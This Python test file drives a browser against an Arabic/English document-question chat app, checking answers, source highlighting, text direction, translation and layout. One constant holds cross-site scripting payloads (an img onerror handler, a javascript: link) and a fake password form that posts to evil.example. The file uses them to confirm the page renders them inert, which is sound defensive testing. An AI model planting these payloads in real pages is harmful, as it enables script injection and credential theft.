"""The chat in a real Chromium, as a reader meets it."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest
from conftest import ROOT
from ui_corpus import ABSENT, CAUSE, CLOSED, GUARD, INJURED, LEVEL, MIXED
from ui_support import running
from ui_visit import DESKTOP, PHONE, Visit, Visiting, is_inside, no_sideways_scrolling

if TYPE_CHECKING:
    from playwright.sync_api import Locator

pytestmark = pytest.mark.browser

ATTACK = (
    '<img src=x onerror="window.__hacked=1"> **b** [l](javascript:window.__hacked=1) `c` $$x$$\n\n# h\n- i\n'
    '<form action="https://evil.example"><input name="password"></form> https://evil.example/a?b=c كيف؟'
)


@pytest.fixture(scope="module")
def briefs_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve the shipped briefs as a user does, from nothing."""
    command = [sys.executable, "-um", "rag.cli", "serve", "--corpus", str(ROOT / "seeds"), "--port", "0"]
    with running(command, ISNAD_HOME=str(tmp_path_factory.mktemp("home"))) as (address, _):
        yield address


def side_of_last(text: Locator) -> str:
    """Return on which side of the text's first character its last one is drawn."""
    return str(
        text.evaluate(
            """element => {
              const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
              const texts = [];
              while (walker.nextNode()) if (walker.currentNode.data.trim()) texts.push(walker.currentNode);
              const box = (node, at) => {
                const range = document.createRange();
                range.setStart(node, at);
                range.setEnd(node, at + 1);
                return range.getBoundingClientRect();
              };
              const [first, last] = [texts[0], texts[texts.length - 1]];
              const start = box(first, first.data.search(/\\S/));
              const end = box(last, last.data.trimEnd().length - 1);
              return end.left > start.left ? "right" : "left";
            }"""
        )
    )


def test_the_shipped_briefs_are_asked_in_arabic_from_example_to_marked_source(
    visiting: Visiting, briefs_url: str
) -> None:
    visit = visiting(url=briefs_url)
    answer = visit.ask("من هو المتحدث باسم البنتاغون؟")
    assert "كيربي" in answer.inner_text()
    answer.locator(".is-chip").first.click()
    chosen = visit.page.locator("#is-source mark.is-chosen")
    chosen.wait_for()
    assert "كيربي" in chosen.inner_text()
    assert visit.page.evaluate("document.documentElement.dir") == "rtl"


def test_a_question_is_answered_and_its_source_opens_at_the_marked_words(desk: Visit) -> None:
    answer = desk.ask(CLOSED)
    assert answer.locator(".is-answer").first.inner_text() == "الساعة 5:40 صباحاً"
    assert answer.locator(".is-context mark").first.inner_text() == "الساعة 5:40 صباحاً"
    answer.locator(".is-chip").nth(1).click()
    chosen = desk.page.locator("#is-source mark.is-chosen")
    chosen.wait_for()
    assert chosen.all_inner_texts() == ["الساعة 5:40 صباحاً"]
    assert desk.page.locator("#is-source .is-panel-title").inner_text() == "مستشفى وردان يستقبل المصابين"
    assert is_inside(chosen, desk.page.locator("#is-source .is-panel-body"))


@pytest.mark.parametrize("size", [DESKTOP, PHONE])
def test_a_long_source_is_scrolled_to_the_marked_words(visiting: Visiting, size: dict[str, int]) -> None:
    visit = visiting(size)
    visit.ask(LEVEL).locator(".is-chip").click()
    chosen = visit.page.locator("#is-source mark.is-chosen")
    chosen.wait_for()
    body = visit.page.locator("#is-source .is-panel-body")
    assert body.evaluate("element => element.scrollHeight > 3 * element.clientHeight")
    assert is_inside(chosen, body)


def test_the_opened_source_marks_every_span_that_the_answer_cites_in_it(desk: Visit) -> None:
    answer = desk.ask(CLOSED)
    answer.locator(".is-chip").first.click()
    desk.page.locator("mark.is-chosen").wait_for()
    assert desk.page.locator("#is-source mark").all_inner_texts() == ["فجر اليوم", "الساعة 5:40 صباحاً"]
    desk.page.locator("#is-source .is-steps a.is-step").click()
    desk.page.locator("mark.is-chosen", has_text="فجر اليوم").wait_for()
    assert desk.page.locator("#is-source .is-steps").inner_text().split() == ["↑", "1", "من", "2", "↓"]


def test_a_source_opens_and_closes_from_the_keyboard(phone: Visit) -> None:
    chip = phone.ask(CLOSED).locator(".is-chip").first
    chip.focus()
    phone.page.keyboard.press("Enter")
    phone.page.locator("mark.is-chosen").wait_for()
    phone.page.keyboard.press("Escape")
    phone.page.locator("mark.is-chosen").wait_for(state="hidden")
    assert chip.evaluate("element => element === document.activeElement")


def test_an_example_is_asked_with_one_touch(desk: Visit) -> None:
    desk.page.locator(".example", has_text=INJURED).click()
    desk.page.locator(".is-card").first.wait_for()
    assert desk.page.locator(".message.user").all_inner_texts() == [INJURED]


def test_a_conflict_is_said_before_the_two_answers_that_stand_side_by_side(desk: Visit) -> None:
    answer = desk.ask(INJURED)
    notice, first, second = (
        answer.locator(each).bounding_box()
        for each in (".is-conflict", ".is-card >> nth=0", ".is-card >> nth=1")
    )
    assert notice is not None
    assert first is not None
    assert second is not None
    assert notice["y"] < first["y"] == second["y"]
    assert first["x"] > second["x"]  # read from the right


def test_what_is_not_in_the_documents_is_said_and_the_nearest_passage_opens(desk: Visit) -> None:
    answer = desk.ask(ABSENT)
    assert answer.locator(".is-absent strong").inner_text() == "ليس في هذه الوثائق"
    assert answer.locator(".is-nearest .is-heading").inner_text() == "أقرب ما ورد فيها، وليس جوابًا:"
    answer.locator(".is-chip").first.click()
    desk.page.locator("mark.is-chosen", has_text="وقال الطبيب ناصر العلي").wait_for()


def test_each_bubble_and_passage_runs_in_the_direction_of_its_own_words(desk: Visit) -> None:
    for language in ("ar", "en"):
        desk.page.locator("#is-language label", has_text={"ar": "العربية", "en": "English"}[language]).click()
        desk.page.wait_for_function("code => document.documentElement.lang === code", arg=language)
        sides = {CAUSE: "right", MIXED: "left", CLOSED: "left"}
        for question, side in sides.items():
            desk.ask(question)
            assert side_of_last(desk.page.locator(".message.user p").last) == side, (language, question)
        assert side_of_last(desk.page.locator(".isnad").last.locator(".is-context").first) == "left"
        english = desk.page.locator(".is-context", has_text="The company Nahr Works").last
        assert side_of_last(english.locator("mark")) == "right"
        assert english.evaluate("element => getComputedStyle(element).direction") == "ltr"


def test_the_question_box_follows_what_is_typed(desk: Visit) -> None:
    box = desk.page.locator("#is-question textarea")
    assert box.evaluate("element => getComputedStyle(element).unicodeBidi") == "plaintext"
    assert box.evaluate("element => getComputedStyle(element).textAlign") == "start"


def test_the_interface_starts_in_arabic_and_changes_in_place(desk: Visit) -> None:
    page = desk.page
    assert page.evaluate("[document.documentElement.lang, document.documentElement.dir]") == ["ar", "rtl"]
    assert page.locator("h1").inner_text() == "إسناد"
    assert "6 وثائق" in page.locator("#is-brand").inner_text()
    desk.ask(CLOSED)
    page.locator("#is-language label", has_text="English").click()
    page.locator("h1", has_text="Isnad").wait_for()
    assert page.evaluate("[document.documentElement.lang, document.documentElement.dir]") == ["en", "ltr"]
    page.locator("#is-source .is-tab[aria-current]", has_text="Documents").wait_for()
    page.locator("#is-question textarea[placeholder='Ask about the documents…']").wait_for()
    assert page.locator(".is-answer").first.inner_text() == "الساعة 5:40 صباحاً"  # the conversation is kept
    assert "High confidence" in desk.ask(CLOSED).inner_text()
    assert desk.wrong == []
    desk.until_kept(2)
    page.reload()
    page.locator("h1", has_text="Isnad").wait_for()
    page.locator(".isnad >> nth=1").wait_for()  # the conversation is taken up again
    desk.wrong.clear()  # reloading breaks off what the page still waits for, and has it complain
    page.locator("#is-language label", has_text="Français").click()
    page.locator("#is-brand", has_text="6 documents").wait_for()
    assert "Pas dans ces documents" in desk.ask(ABSENT).inner_text()


def test_no_key_of_ours_or_of_gradio_is_left_untranslated(desk: Visit) -> None:
    desk.ask(CLOSED)
    shown = desk.page.evaluate(
        """() => [...document.querySelectorAll("body :not(script, style)")].flatMap((each) =>
             [each.title, each.ariaLabel, each.placeholder, each.children.length ? "" : each.textContent])
             .filter((text) => /__i18n__|^(isnad|chatbot|common|chat_interface)\\./.test(text || ""))"""
    )
    assert shown == []
    names = desk.page.locator("#is-messages button[title]").evaluate_all(
        "all => all.map((each) => each.title)"
    )
    assert sorted(names) == ["إعادة السؤال", "تراجع", "تعديل", "مسح المحادثة"]


@pytest.mark.parametrize("question", ["", "  "])
def test_an_empty_question_gets_a_friendly_line(desk: Visit, question: str) -> None:
    assert desk.ask(question).inner_text().strip() == "اكتب سؤالك أولًا."


def test_a_question_that_is_too_long_gets_a_friendly_line(desk: Visit) -> None:
    text = desk.ask("ماذا " * 4_000).inner_text()
    assert text.strip() == "السؤال طويل (19999 حرفًا). اختصره إلى 1000 حرف على الأكثر."


def test_hostile_documents_names_and_questions_are_only_text(desk: Visit) -> None:
    page = desk.page
    answer = desk.ask(GUARD)
    answer.locator(".is-chip").first.click()
    page.locator("mark.is-chosen").wait_for()
    assert "<script>window.__hacked" in page.locator("#is-source article").inner_text()
    desk.ask(ATTACK)
    assert page.locator(".message.user").last.inner_text() == ATTACK
    page.wait_for_timeout(300)
    foreign = "img, form, input:not([type='search']), iframe, script, svg, style, a:not([href^='#'])"
    assert (
        page.locator(f".isnad :is({foreign}), .is-panel :is({foreign}), .message :is({foreign})").count() == 0
    )
    assert page.evaluate("window.__hacked") is None


def test_a_copied_answer_carries_its_sources(visiting: Visiting) -> None:
    visit = visiting(DESKTOP)
    visit.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visit.ask(MIXED).locator(".is-copy").click()
    visit.page.locator(".is-copy.is-done").wait_for()
    assert visit.page.evaluate("navigator.clipboard.readText()") == (
        "Nahr Works\nThe company Nahr Works will rebuild the bridge, and opens it again in September 2024.\n"
        "— Engineers' report on the Wardan bridge · 20 مارس 2023"
    )


def test_on_a_phone_the_source_covers_the_chat_and_closes_again(phone: Visit) -> None:
    page = phone.page
    assert not page.locator("#is-source").is_visible()
    assert no_sideways_scrolling(page)
    phone.ask(CLOSED).locator(".is-chip").nth(1).click()
    chosen = page.locator("mark.is-chosen")
    chosen.wait_for()
    assert page.locator("#is-source").bounding_box() == {"x": 0, "y": 0, **PHONE}
    assert is_inside(chosen, page.locator(".is-panel-body"))
    assert no_sideways_scrolling(page)
    page.locator(".is-close").click()
    page.locator("#is-source").wait_for(state="hidden")
    page.locator(".is-chip").first.click()
    chosen.wait_for()
    page.go_back()
    page.locator("#is-source").wait_for(state="hidden")
    assert page.locator(".isnad").count() == 1  # "back" left the page as it was


@pytest.mark.parametrize(("size", "scheme"), [(DESKTOP, "dark"), (PHONE, "light")])
def test_no_screen_scrolls_sideways_and_the_question_stays_in_sight(
    visiting: Visiting, size: dict[str, int], scheme: str
) -> None:
    visit = visiting(size, scheme=scheme)
    for question in (CLOSED, INJURED, ABSENT, GUARD, ATTACK, "س" * 900):
        visit.ask(question)
        visit.page.wait_for_timeout(200)
        assert no_sideways_scrolling(visit.page), question
        box = visit.page.locator("#is-question").bounding_box()
        assert box
        assert box["y"] + box["height"] <= size["height"]
        log = visit.page.locator("#is-messages .bubble-wrap")
        assert log.evaluate("element => element.scrollWidth <= element.clientWidth"), question


def test_only_the_documents_chosen_under_the_question_are_asked(desk: Visit) -> None:
    page = desk.page
    fold = page.locator("#is-filters > .label-wrap")
    fold.click()
    page.click("#is-filter-documents input")
    page.get_by_role("option", name="مستشفى وردان").click()
    page.keyboard.press("Escape")
    cited = desk.ask(CLOSED).locator(".is-chip")
    assert cited.locator(".is-title").all_inner_texts() == ["مستشفى وردان يستقبل المصابين"]
    page.fill("#is-filter-until input, #is-filter-until textarea", "١٤ آذار ٢٠٢٣")
    assert desk.ask(CLOSED).locator(".is-absent").count() == 1  # the hospital's report is of the 15th
    page.fill("#is-filter-until input, #is-filter-until textarea", "soon")
    assert "2021-07-24" in desk.ask(CLOSED).locator(".is-notice").inner_text()


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_the_open_row_of_filters_fits_the_page_in_each_direction(
    visiting: Visiting, size: dict[str, int]
) -> None:
    visit = visiting(size)
    page = visit.page
    page.locator("#is-filters > .label-wrap").click()
    for language, direction in (("العربية", "rtl"), ("Français", "ltr")):
        page.locator("#is-language label", has_text=language).click()
        page.wait_for_function(f"document.documentElement.dir === '{direction}'")
        boxes = [page.locator(f"#is-filter-{name}").bounding_box() for name in ("documents", "languages")]
        documents, languages = (box for box in boxes if box is not None)
        if size == PHONE:
            assert documents["y"] + documents["height"] <= languages["y"]
        else:
            assert (documents["x"] > languages["x"]) == (direction == "rtl")
        for name in ("documents", "languages", "since", "until"):
            box = page.locator(f"#is-filter-{name}").bounding_box()
            assert box is not None
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= size["width"]
            assert box["y"] + box["height"] <= size["height"]
